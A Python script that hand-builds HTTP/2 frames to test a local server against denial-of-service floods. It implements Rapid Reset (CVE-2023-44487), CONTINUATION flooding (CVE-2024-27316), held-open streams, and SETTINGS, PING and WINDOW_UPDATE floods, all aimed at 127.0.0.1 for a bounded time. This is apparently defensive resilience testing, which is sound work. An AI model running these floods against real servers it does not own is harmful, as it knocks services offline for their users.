"""HTTP/2 frames by hand, over TLS or plain: peers that no library would be, for attacks on our own servers.

Bounded: each attack ends by itself after its seconds. As a program, so that the attacker's work is not its victim's:
usage: h2.py FLOOD PORT PATH SECONDS CONNECTIONS [CA CERTIFICATE KEY]; prints how often a connection was closed on it."""
import socket
import ssl
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
CHUNK = 64  # frames in a write


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def literal(name, value):
    """A header without index or Huffman code (RFC 7541 6.2.2)."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def call_headers(path, extra=()):
    fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path.encode()), (b":authority", b"localhost"),
              (b"te", b"trailers"), (b"content-type", b"application/grpc"), *extra]
    return b"".join(literal(name, value) for name, value in fields)


class Connection:
    """One connection whose answers are read and thrown away; `acknowledge`: SETTINGS are acknowledged, as one must."""

    def __init__(self, port, context=None, acknowledge=True):
        raw = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.socket = context.wrap_socket(raw, server_hostname="localhost") if context else raw
        self.closed = threading.Event()
        self.acknowledge = acknowledge
        self.held = b""
        self.send(PREFACE + frame(SETTINGS, 0, 0))

    def send(self, data):
        """False: the connection is gone. Reads too, as a TLS socket is for one thread at a time."""
        if self.closed.is_set():
            return False
        try:
            self.socket.settimeout(2)
            self.socket.sendall(data)
            if self.read() and self.acknowledge:
                self.socket.settimeout(2)
                self.socket.sendall(frame(SETTINGS, ACK, 0))
        except OSError:
            self.closed.set()
        return not self.closed.is_set()

    def read(self):
        """Throw away what is there; whether there were SETTINGS in it."""
        self.socket.setblocking(False)
        asked = False
        try:
            while data := self.socket.recv(65536):
                self.held += data
                while len(self.held) >= 9 and len(self.held) >= 9 + (size := int.from_bytes(self.held[:3], "big")):
                    asked = asked or (self.held[3] == SETTINGS and not self.held[4] & ACK)
                    self.held = self.held[9 + size:]
            self.closed.set()
        except (BlockingIOError, ssl.SSLWantReadError):
            pass
        return asked

    def close(self):
        try:
            self.socket.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.socket.close()


def client_context(authority, certificate, key):
    context = ssl.create_default_context(cafile=authority)
    context.check_hostname = False
    context.load_cert_chain(certificate, key)
    context.set_alpn_protocols(["h2"])
    return context


def hold(connection, path, until):
    """Calls that are opened and say nothing."""
    headers = call_headers(path)
    stream = 1
    while time.monotonic() < until and connection.send(
            b"".join(frame(HEADERS, END_HEADERS, stream + 2 * i, headers) for i in range(CHUNK))):
        stream += 2 * CHUNK


def reset(connection, path, until):
    """CVE-2023-44487: calls that are opened and reset."""
    headers = call_headers(path)
    cancel = (8).to_bytes(4, "big")
    stream = 1
    while time.monotonic() < until and connection.send(
            b"".join(frame(HEADERS, END_HEADERS, stream + 2 * i, headers) + frame(RST_STREAM, 0, stream + 2 * i, cancel)
                     for i in range(CHUNK))):
        stream += 2 * CHUNK


def continuation(connection, path, until, payload=b""):
    """CVE-2024-27316 and its like: a head that never ends."""
    connection.send(frame(HEADERS, 0, 1, call_headers(path)))
    one = frame(CONTINUATION, 0, 1, payload) * CHUNK
    while time.monotonic() < until and connection.send(one):
        pass


def continuation_full(connection, path, until):
    continuation(connection, path, until, literal(b"x-filling", b"y" * 100) * 20)


def repeat(kind, flags, payload):
    def flood(connection, path, until):
        del path
        one = frame(kind, flags, 0, payload) * CHUNK
        while time.monotonic() < until and connection.send(one):
            pass
    return flood


UNACKNOWLEDGED = "hold_unacknowledged"  # who never acknowledges SETTINGS is bound by none of them
FLOODS = {
    "hold": hold, UNACKNOWLEDGED: hold, "reset": reset, "continuation": continuation, "continuation_full": continuation_full,
    "settings": repeat(SETTINGS, 0, b""), "window": repeat(WINDOW_UPDATE, 0, (1).to_bytes(4, "big")),
    "ping": repeat(PING, 0, bytes(8)),
}


def attack(name, port, context, path, seconds, connections=4):
    """The flood on some connections at once; one that the server closed is opened again, without haste. Returns how
    often that was."""
    until = time.monotonic() + seconds
    closed = [0] * connections

    def one(number):
        while time.monotonic() < until:
            try:
                connection = Connection(port, context, name != UNACKNOWLEDGED)
            except OSError:
                time.sleep(0.05)
                continue
            FLOODS[name](connection, path, until)
            while FLOODS[name] is hold and time.monotonic() < until and connection.send(b""):
                time.sleep(0.05)
            closed[number] += time.monotonic() < until
            connection.close()
            time.sleep(0.05)
    threads = [threading.Thread(target=one, args=(number,)) for number in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return sum(closed)


if __name__ == "__main__":
    print(attack(sys.argv[1], int(sys.argv[2]), client_context(*sys.argv[6:9]) if len(sys.argv) > 6 else None, sys.argv[3],
                 float(sys.argv[4]), int(sys.argv[5])))
